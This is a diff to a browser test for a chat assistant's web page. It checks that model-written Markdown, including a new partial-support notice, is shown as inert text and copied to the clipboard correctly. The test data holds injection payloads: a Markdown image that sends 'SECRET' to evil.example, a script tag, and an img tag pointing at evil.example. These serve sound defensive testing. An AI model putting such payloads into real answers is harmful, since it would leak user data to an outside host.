@@ -650,13 +650,16 @@ LAID_OUT = (
 )
 
 
+PARTIAL = {"support": "partial", "notice": "One sentence cites no abstract <b>bold?</b>"}
+
+
 class ModelAssistant(ScriptedAssistant):
     """ATTACK again, written by a model in Markdown: its layout is shown, and still nothing else acts."""
 
     def stream(self, question: str, history: object = None, filters: object = None, **overrides: object) -> Iterator[object]:
         for event in super().stream(question, history, filters, **overrides):
             if isinstance(event, Final):
-                yield Final(answer=event.answer.model_copy(update={"text": LAID_OUT, "mode": "openai"}))
+                yield Final(answer=event.answer.model_copy(update={"text": LAID_OUT, "mode": "openai", **PARTIAL}))
             elif not isinstance(event, TextDelta):
                 yield event
 
@@ -677,6 +680,7 @@ def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(brows
         expect(uncited).to_have_attribute("title", re.compile("cites no source"))
         expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
         expect(bubble).to_contain_text("<script>document.title='owned'</script>")
+        expect(page.locator("#aa-chat")).to_contain_text("One sentence cites no abstract <b>bold?</b>")  # the notice, as text
         shot(page, "model-markdown.png")
         assert page.locator("#aa-chat img, #aa-chat iframe, #aa-chat script, #aa-chat .x").count() == 0
         chat_links = page.locator("#aa-chat a:not(.aa-copy)").evaluate_all("as => as.map(a => a.getAttribute('href'))")
@@ -690,6 +694,8 @@ def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(brows
         copied = page.evaluate("navigator.clipboard.readText()")
         assert copied.startswith(LAID_OUT.strip()), copied[:200]
         assert copied.endswith("\n\nReferences:\n[1] Stripes <img src=https://evil.example/t.png>\n[2] Trap"), copied[-200:]
+        # the caveat shown under the answer goes with it, as text
+        assert "\n\nSupport: partial\nNote: One sentence cites no abstract <b>bold?</b>\n\nReferences:" in copied, copied
         assert page.url.endswith("/"), page.url  # the link's "#" was not followed
         assert page.title() == "Abstract Assistant"
         assert outside == [], outside
